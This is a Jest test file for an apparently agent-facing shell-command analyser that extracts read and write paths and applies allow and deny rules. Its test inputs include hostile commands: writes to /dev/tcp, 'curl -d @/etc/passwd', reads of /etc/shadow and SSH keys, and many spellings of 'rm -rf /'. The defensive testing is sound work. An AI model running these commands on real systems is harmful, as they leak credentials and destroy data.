import fs from 'node:fs';
import { expect, test } from '@jest/globals';
import { HOLE } from '../../../src/contract/shell.js';
import { type RuleSet, rules } from '../../../src/policy/rules.js';
import { commandsIn } from '../../../src/service/shell-words/commands.js';

const table = fs
  .readFileSync('test/fixture/shell-commands.tsv', 'utf8')
  .split('\n')
  .filter((line) => line !== '' && !line.startsWith('#'))
  .map((line) => line.split('\t') as [verdict: string, command: string, found: string]);

const set: RuleSet = {
  origin: 'test',
  allow: ['bash(git status*)', 'bash(git log*)', 'bash(ls*)', 'bash(npm test*)', 'bash(cat *)'],
  deny: ['bash(rm *)', 'bash(git push*)', 'bash(curl *)'],
};
const judge = rules([set], { root: '/w', resolve: (path) => path, commandsIn });

function verdict(command: string): string {
  const access = { kind: 'exec' as const, command };
  const by = { tool: 'bash', moment: 'call' as const };
  if (judge.judge(access, by).action !== 'allow') return 'refused';
  return judge.granted(access, by) ? 'allowed' : 'neither';
}

function found(command: string): string {
  const { ok, commands } = commandsIn(command);
  if (!ok) return 'unparsable';
  return commands.map(({ known, text }) => (known ? text.replaceAll(HOLE, '…') : '?')).join(' | ');
}

test(`the table of ${table.length} commands: what each can run, and what the rules say`, () => {
  expect(table.length).toBeGreaterThan(500);
  const now = table.map(([, json]) => [verdict(JSON.parse(json)), json, found(JSON.parse(json))]);
  expect(now).toEqual(table);
});

test.each([
  // Paths are joined to the folder they are used in; ~ stays.
  ['cat a/b.txt ../x /etc/passwd ~/.ssh/id', ['a/b.txt', '../x', '/etc/passwd', '~/.ssh/id'], []],
  ['echo x > out.txt; echo y >> a/log 2> err', [], ['out.txt', 'a/log', 'err']],
  ['ls &> all; ls >| f; ls <> both', ['.', 'both'].slice(1), ['all', 'f', 'both']],
  ['cmd < in > /dev/null 2>&1', ['in'], []],
  ['echo x > /dev/tcp/1.2.3.4/80', [], ['/dev/tcp/1.2.3.4/80']],
  ['cd sub && cat x ../y', ['sub', 'sub/x', 'y'], []],
  ['cd sub; cat x', ['sub', 'sub/x', 'x'], []],
  ['(cd sub; cat x); cat z', ['sub', 'sub/x', 'x', 'z'], []],
  ['cd / && cat etc/passwd', ['/', '/etc/passwd'], []],
  ['cd && cat x', ['~/x'], []],
  ['cp a b; mv c d; ln -s /etc e', ['a', '/etc'], ['b', 'c', 'd', 'e']],
  ['rm -rf x y; touch z; mkdir -p q/r', [], ['x', 'y', 'z', 'q/r']],
  ['tee -a log < in', ['in'], ['log']],
  ['dd if=/dev/zero of=disk.img', [], ['disk.img']],
  ['dd if=/etc/shadow of=x', ['/etc/shadow'], ['x']],
  ["sed -i 's/a/b/' f.ts; sed -n 1p g.ts", ['g.ts'], ['f.ts']],
  ['sort -o out in; curl -o page https://a.example', ['in', 'out'], ['out', 'page']],
  ['grep -r "/api/v1" src; grep -f pats src', ['src', 'pats'], []],
  // Names that one command prints and another uses.
  ['echo .git/config | xargs cat', ['.git/config'], []],
  ["printf '%s\\n' a/b ../x | xargs -n1 cat", ['a/b', '../x'], []],
  ['echo .git/config | while read f; do cat $f; done', ['.git/config'], []],
  ['cat $(echo .git/config)', ['.git/config'], []],
  ['cat "`echo -n /etc/shadow`"', ['/etc/shadow'], []],
  ["bash -c 'echo .git/config | xargs cat'", ['.git/config'], []],
  ['echo /etc/passwd ../x; echo ../x | grep x; echo "see a.ts" > b', [], ['b']],
  ['cat /e*/passwd', ['/'], []],
  ['cat "$X"; cat $HOME; cat /etc/$X', ['/etc/'], []],
  ['cat {a,/etc/passwd}', ['a', '/etc/passwd'], []],
  ['cat file:///etc/passwd; curl -d @/etc/passwd x', ['/etc/passwd'], []],
  ['tar -xf a.tgz -C /etc', ['a.tgz', '/etc'], ['/etc']],
  ['find /etc -name x -path "/foo"; find . -delete', ['/etc', '.'], []],
  ['/etc/evil; ./run.sh; /usr/bin/ls', ['/etc/evil', 'run.sh'], []],
  ['[ -f /etc/passwd ] && [ "$x" = /foo ]', ['/etc/passwd'], []],
  ['echo /etc/passwd ../x; printf ~/y', [], []],
  ['git commit -m "see /etc/passwd and ../x"; git diff -- ../y', ['../y'], []],
  ['npm run build -- --base=/no-such-folder/', [], []],
  ['node --env-file=/etc/env app.js', ['/etc/env', 'app.js'], []],
  ['timeout 5 cat /etc/passwd', ['/etc/passwd'], []],
  ["bash -c 'cat /etc/passwd > x'", ['/etc/passwd'], ['x']],
  ['cat <<< /etc/passwd; cat <<E\n/etc/passwd\nE', [], []],
] as [string, string[], string[]][])('%j names its paths', (command, reads, writes) => {
  const words = commandsIn(command);
  expect({ reads: [...words.reads].sort(), writes: [...words.writes].sort() }).toEqual({
    reads: [...reads].sort(),
    writes: [...writes].sort(),
  });
});

test('the folder a call runs in stands before its relative paths', () => {
  expect(commandsIn('cat x ../y > z', 'sub')).toMatchObject({ reads: ['sub/x', 'y'], writes: ['sub/z'] });
});

test.each([
  ['rm -fr /', 'rm -rf /'],
  ['rm / --force -v -r', 'rm -rf /'],
  ['rm --recu --forc /', 'rm -rf /'],
  ['/bin/rm -Rf //', 'rm -rf /'],
  ['rm -rf /tmp/..', 'rm -rf /'],
  ['rm -rf -- /', 'rm -rf /'],
  ['git -C x --no-pager -c a.b=c push -f', 'git push -f'],
  ['git push origin --force', 'git push -f origin'],
  ['A=1 curl x', 'curl x'],
  ['CURL x', 'curl x'],
  ['npx -y rm x', 'rm x'],
])('%s is also spelled %s', (command, spelling) => {
  expect(
    commandsIn(command).commands.flatMap(({ spellings }) => spellings.map((one) => one.replace(/ -- /, ' '))),
  ).toContain(spelling);
});

test('a text that is too long, too deep or too wide is not judged', () => {
  const nested = (depth: number): string =>
    depth === 0 ? 'ls' : `bash -c '${nested(depth - 1).replaceAll("'", "'\\''")}'`;
  for (const text of [
    `echo ${'x'.repeat(100_000)}`,
    nested(8),
    'ls;'.repeat(3_000),
    '$('.repeat(6_000),
    'a\0b',
  ])
    expect(commandsIn(text)).toMatchObject({ ok: false, why: expect.any(String) });
});
